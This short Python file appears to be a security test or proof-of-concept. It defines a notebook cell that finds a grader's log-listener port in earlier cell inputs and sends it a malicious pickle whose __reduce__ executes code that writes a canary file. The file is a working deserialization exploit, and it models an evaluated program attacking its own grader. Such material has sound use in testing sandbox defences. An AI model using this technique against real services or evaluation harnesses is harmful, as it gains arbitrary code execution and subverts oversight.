"""Sends a pickle that writes a file to the port on which the grader listens for log records."""

PROOF = "otter"

CELL = r"""
import os
import pickle
import re
import socket
import struct

here = os.getpid()


class Evil:
    def __reduce__(self):
        return exec, (f"import os\nif os.getpid() != {here}: open('{canary}', 'w').write('unpickled')",)


ports = {int(port) for text in get_ipython().user_ns["In"] for port in re.findall(r'send_logs\("127.0.0.1", (\d+)\)', text)}
payload = pickle.dumps(Evil())
for port in sorted(ports)[:5]:
    try:
        with socket.create_connection(("127.0.0.1", port), 1) as connection:
            connection.sendall(struct.pack(">L", len(payload)) + payload)
    except OSError:
        pass
"""
